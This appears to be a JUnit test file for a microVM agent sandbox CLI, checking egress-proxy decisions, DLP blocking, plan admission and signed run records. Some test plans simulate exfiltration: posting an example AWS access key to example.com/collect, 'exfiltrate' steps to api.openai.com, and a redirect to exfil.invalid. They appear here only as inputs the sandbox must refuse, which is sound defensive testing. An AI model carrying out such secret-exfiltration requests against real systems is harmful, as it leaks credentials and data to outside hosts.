package dev.rtfs.microvm.cli;

import static dev.rtfs.microvm.cli.CliRun.run;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.fail;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code run} and {@code demo} through the CLI: the demo end to end in a real QEMU microvm (needs qemu-system-x86,
 * linux-image-cloud-amd64, busybox-static, e2fsprogs: skipped locally without them, failed under CI=true), and
 * every path that must stop before a VM starts.
 */
class RunCommandTest {

    static final Path ROOT = Path.of(System.getProperty("rtfs.repo.root", "..")).toAbsolutePath().normalize();
    static final String CONFIG = ROOT.resolve("docs/examples/agent.config.microvm.rtfs").toString();

    @TempDir Path dir;

    @Test
    void demoRunsTheExampleAgentEndToEndOnLoopbackOnly() {
        boolean qemu = Files.isExecutable(Path.of("/usr/bin/qemu-system-x86_64"));
        if (!qemu) {
            if ("true".equals(System.getenv("CI"))) fail("qemu-system-x86 is not installed [CI=true: prerequisites must be present]");
            Assumptions.abort("qemu-system-x86 is not installed — skipped (set CI=true to make this a failure)");
        }
        Path hostKey = dir.resolve("state/chain-key");
        CliRun r = run("demo", "--work", dir.toString(), "--chain-key", hostKey.toString());
        assertThat(r.exit()).as(r.out() + r.err()).isZero();
        assertThat(r.out()).contains("fetch-index      completed", "follow-redirect  completed", "store-index      completed",
                        "read-capability  completed", "sample           completed", "count-words      completed",
                        "report           completed")
                .as("the user capability shipped with the demo ran in the guest, as its step")
                .contains("{\"words\":7,\"step\":\"5\"}")
                .as("intercepted: the tunnel and the decrypted GET are two decisions")
                .containsPattern("fetch-index +completed +1 +\\d+ +2 allowed ")
                .as("the step's ACL denies the redirect's hop: shown in the table and the decisions")
                .containsPattern("follow-redirect +completed +1 +\\d+ +1 allowed, 1 denied \\(403\\) ")
                .contains("step follow-redirect: GET exfil.invalid:80 -> DENY (domain-not-allowed, status 403)")
                .contains("{\"path\":\"/tmp/agent/steps/1/index.json\",\"bytes\":11}")
                .contains("{\\\"items\\\":[\\\"alpha\\\"")
                .contains("causal chain: ").contains(", intact").contains(", signed by key ")
                .as("the demo fetches over HTTPS: a CONNECT to example.com:443 the proxy intercepts, then the GET inside")
                .contains("step fetch-index: CONNECT example.com:443 -> ALLOW (allowed, status 200)\n"
                        + "  step fetch-index: GET example.com:443 -> ALLOW (allowed, status 200)")
                .contains("demo: the loopback origins served 2 requests: https GET /index.json, http GET /moved");
        assertThat(dir.resolve("run/chain")).isDirectory();
        CliRun verified = run("chain", "verify", "--chain-key", hostKey.toString(), dir.resolve("run/chain").toString());
        assertThat(verified.exit()).as(verified.err()).isZero();
        assertThat(verified.out()).contains("valid: ").contains("signature verified with host key");
        assertThat(r.err()).as("progress on stderr, phase by phase").contains("demo: [", "image build: kernel",
                "egress proxy on 127.0.0.1:", "hello from the guest after", "step 1 follow-redirect: completed in",
                "asking the guest to power off", "causal chain verified");

        // The same image, a plan of our own, JSON out: what a script reads.
        Path plan = dir.resolve("plan.json-run.rtfs");
        writeQuietly(plan, """
                (plan ^{:effects [[:fs {:paths ["/agent/capabilities"] :modes [:read]}]]}
                  :program (do (step "read" (call :fs.read {:path "/agent/capabilities/text.wordcount/capability.rtfs"}))
                               (step "say" (call :echo {:n 1}))))
                """);
        CliRun json = run("run", CONFIG, "--plan", plan.toString(), "--image", dir.resolve("image").toString(),
                "--run-dir", dir.resolve("run-json").toString(), "--format", "json", "--chain-key", hostKey.toString());
        assertThat(json.exit()).as(json.out() + json.err()).isZero();
        assertThat(json.err()).contains("run: [").contains("hello from the guest after");
        var tree = tools.jackson.databind.json.JsonMapper.builder().build().readTree(json.out());
        assertThat(tree.get("succeeded").asBoolean()).isTrue();
        assertThat(tree.get("agent_id").asString()).isEqualTo("agent.microvm.example");
        assertThat(tree.get("steps")).hasSize(2);
        assertThat(tree.get("steps").get(1).get("calls").get(0).get("value").toString()).isEqualTo("{\"n\":1}");
        assertThat(tree.get("chain").get("valid").asBoolean()).isTrue();
        assertThat(tree.get("chain").get("signed").asBoolean()).isTrue();

        // An image that cannot boot (its config names an init that does not exist): fails fast, says why.
        Path unbootable = dir.resolve("unbootable.rtfs");
        writeQuietly(unbootable, readQuietly(Path.of(CONFIG)).replace(":cmdline \"console=none\"",
                ":cmdline \"console=none rdinit=/no/such/init\""));
        long start = System.nanoTime();
        CliRun panic = run("run", unbootable.toString(), "--plan", plan.toString(), "--image",
                dir.resolve("image").toString(), "--run-dir", dir.resolve("run-panic").toString(), "--quiet",
                "--chain-key", hostKey.toString());
        long seconds = (System.nanoTime() - start) / 1_000_000_000L;
        assertThat(panic.exit()).as(panic.out() + panic.err()).isEqualTo(1);
        assertThat(seconds).as("well under the 120 s hello timeout").isLessThan(60);
        assertThat(panic.out()).contains("problem: the guest exited before it said hello (boot 1")
                .contains("cause: ").contains("Kernel panic - not syncing").contains("1 boot,");
        assertThat(panic.err()).as("--quiet, and no stack trace").doesNotContain("run: [").doesNotContain("\tat ");
        CliRun chain = run("chain", "show", dir.resolve("run-panic/chain").toString());
        assertThat(chain.out()).contains("vm.exited").contains("before_hello");
    }

    @Test
    void aDemoPlanLeakingAnAwsKeyOverHttpsIsRefusedInsideTlsByStrictDlpAndTheOriginNeverSeesIt() {
        requireQemu();
        Path plan = dir.resolve("plan.leak.rtfs");
        writeQuietly(plan, """
                (plan ^{:effects [[:network {:domains ["example.com"] :methods [:GET :POST]}]]
                        :resources {:max_time_ms 30000}}
                  :program (do (step "fetch" (call :http.get {:url "https://example.com/index.json"}))
                               (step "leak" (call :http.post {:url "https://example.com/collect"
                                                              :body "aws_access_key_id=AKIAIOSFODNN7EXAMPLE"}))))
                """);
        CliRun r = run("demo", "--work", dir.toString(), "--chain-key", dir.resolve("state/chain-key").toString(),
                "--plan", plan.toString(), "--format", "json");
        var report = tools.jackson.databind.json.JsonMapper.builder().build().readTree(r.out());
        var fetch = report.get("steps").get(0);
        assertThat(fetch.get("calls").get(0).get("value").get("status").asInt()).as(r.out() + r.err()).isEqualTo(200);
        assertThat(fetch.get("egress").toString()).as("intercepted: the tunnel, then the decrypted request")
                .contains("\"method\":\"CONNECT\",\"host\":\"example.com\",\"port\":443,\"decision\":\"ALLOW\"")
                .contains("\"method\":\"GET\",\"host\":\"example.com\",\"port\":443,\"decision\":\"ALLOW\"");
        var leak = report.get("steps").get(1);
        var call = leak.get("calls").get(0);
        assertThat(call.get("value").get("status").asInt()).as(call.toString()).isEqualTo(403);
        assertThat(call.get("value").get("denied").asString()).startsWith("dlp");
        assertThat(leak.get("egress").toString()).contains("\"method\":\"POST\"").contains("\"decision\":\"DENY\"")
                .contains("\"reason\":\"dlp");
        // The call completed with the proxy's answer (403): the step and the run succeed, exit 0 as `run`.
        assertThat(leak.get("status").asString()).isEqualTo("completed");
        assertThat(report.get("succeeded").asBoolean()).isTrue();
        assertThat(r.exit()).as(r.err()).isZero();
        assertThat(r.err()).as("the origin served the fetch, never the leak")
                .contains("demo: the loopback origins served 1 request: https GET /index.json")
                .doesNotContain("/collect");
        // The demo image has no extra trust anchor: the guest trusted the proxy's CA from the run config disk.
        assertThat(r.err()).contains("(intercepted; the proxy trusts demo-ca.pem)");
        assertThat(readQuietly(dir.resolve("run/guest.log"))).contains("trusting the run's CA from /dev/vd");
    }

    private static void requireQemu() {
        if (Files.isExecutable(Path.of("/usr/bin/qemu-system-x86_64"))) return;
        if ("true".equals(System.getenv("CI"))) fail("qemu-system-x86 is not installed [CI=true: prerequisites must be present]");
        Assumptions.abort("qemu-system-x86 is not installed — skipped (set CI=true to make this a failure)");
    }

    private static String readQuietly(Path p) {
        try {
            return Files.readString(p);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static void writeQuietly(Path p, String text) {
        try {
            Files.writeString(p, text);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void aConfigWithErrorsIsRefusedWithPositionsAndNothingStarts() throws Exception {
        Path bad = Files.writeString(dir.resolve("bad.rtfs"), "(agent.config :version \"0.1\" :agent-id \"a\""
                + " :microvm {:resources {:vcpus 0 :mem_mb 256}})");
        Path plan = Files.writeString(dir.resolve("plan.rtfs"), "(plan :program (do (step \"s\" (call :echo {}))))");
        Path image = fakeImage();
        CliRun r = run("run", bad.toString(), "--plan", plan.toString(), "--image", image.toString(),
                "--run-dir", dir.resolve("run").toString());
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.out()).contains("MICROVM_VCPUS").contains(bad + ":1:").contains("refused: nothing was started");
        assertThat(dir.resolve("run/guest.log")).doesNotExist();
    }

    @Test
    void aPlanAdmissionRefusesIsReportedAgainstThePlanFile() throws Exception {
        Path plan = Files.writeString(dir.resolve("exfil.rtfs"), """
                (plan ^{:effects [[:network {:domains ["api.openai.com"] :methods [:POST]}]]}
                  :program (do (step "exfiltrate" (call :http.post {:url "https://api.openai.com/v1/files"}))))
                """);
        CliRun r = run("run", CONFIG, "--plan", plan.toString(), "--image", fakeImage().toString(),
                "--run-dir", dir.resolve("run").toString());
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.out()).contains("ADMISSION_DOMAIN_DENIED").contains(plan + ":2:").contains("refused: nothing was started");
    }

    @Test
    void refusalsPrintAsTheSharedDiagnosticsJson() throws Exception {
        Path plan = Files.writeString(dir.resolve("exfil.rtfs"), """
                (plan ^{:effects [[:network {:domains ["api.openai.com"] :methods [:POST]}]]}
                  :program (do (step "exfiltrate" (call :http.post {:url "https://api.openai.com/v1/files"}))))
                """);
        CliRun r = run("run", CONFIG, "--plan", plan.toString(), "--image", fakeImage().toString(),
                "--run-dir", dir.resolve("run").toString(), "--format", "json");
        assertThat(r.exit()).isEqualTo(1);
        var tree = tools.jackson.databind.json.JsonMapper.builder().build().readTree(r.out());
        assertThat(tree.get("files").get(0).get("diagnostics").get(0).get("code").asString())
                .isEqualTo("ADMISSION_DOMAIN_DENIED");
        CliRun bad = run("run", CONFIG, "--plan", plan.toString(), "--format", "xml");
        assertThat(bad.exit()).isEqualTo(2);
        assertThat(bad.err()).contains("unknown --format 'xml'");
    }

    @Test
    void usageErrorsExit2AndAMissingImageExit1WithOneLine() throws Exception {
        Path plan = Files.writeString(dir.resolve("plan.rtfs"), "(plan :program (do (step \"s\" (call :echo {}))))");
        CliRun noImage = run("run", CONFIG, "--plan", plan.toString(), "--image", dir.resolve("nothing").toString());
        assertThat(noImage.exit()).as("no guest to boot: refused, like a missing kernel").isEqualTo(1);
        assertThat(noImage.err()).contains("no guest image in").contains("rtfs-microvm image build --out");
        CliRun kvm = run("run", CONFIG, "--plan", plan.toString(), "--vmm", "firecracker");
        assertThat(kvm.exit()).isEqualTo(2);
        assertThat(kvm.err()).contains("needs a usable /dev/kvm").contains("--vmm qemu");
        CliRun unknown = run("run", CONFIG, "--plan", plan.toString(), "--vmm", "bochs");
        assertThat(unknown.exit()).isEqualTo(2);
        assertThat(unknown.err()).contains("unknown --vmm 'bochs'");
        CliRun missing = run("run", dir.resolve("missing.rtfs").toString(), "--plan", plan.toString());
        assertThat(missing.exit()).isEqualTo(2);
        assertThat(missing.err()).startsWith("error: ");
    }

    @Test
    void theImageLinkIsResolvedOnceAtStartAndAMissingKernelNamesTheImageBase() throws Exception {
        Path plan = Files.writeString(dir.resolve("plan.rtfs"), "(plan :program (do (step \"s\" (call :echo {}))))");
        Path real = fakeImage().toRealPath();
        Path link = Files.createSymbolicLink(dir.resolve("current"), real);
        CliRun r = run("run", CONFIG, "--plan", plan.toString(), "--image", link.toString(),
                "--run-dir", dir.resolve("run").toString(), "--chain-key", dir.resolve("key").toString());
        assertThat(r.exit()).isEqualTo(1);
        assertThat(r.err()).as("the run says which directory the link gave it").contains("image " + link + " -> " + real);
        assertThat(r.out()).contains("kernel image not found: " + real.resolve("kernels/vmlinuz-min")
                + " (paths in :microvm are relative to --image DIR, here " + real + ";");
        assertThat(run("run", "--help").out().replaceAll("\\s+", " ")).contains("resolved once, at start");
    }

    /** Just enough of an image directory for `run` to get to validation (which refuses first). */
    private Path fakeImage() throws Exception {
        Path image = dir.resolve("image");
        Files.createDirectories(image.resolve("images"));
        Files.writeString(image.resolve("images/initramfs.cpio"), "not used: the run is refused before boot");
        return image;
    }
}
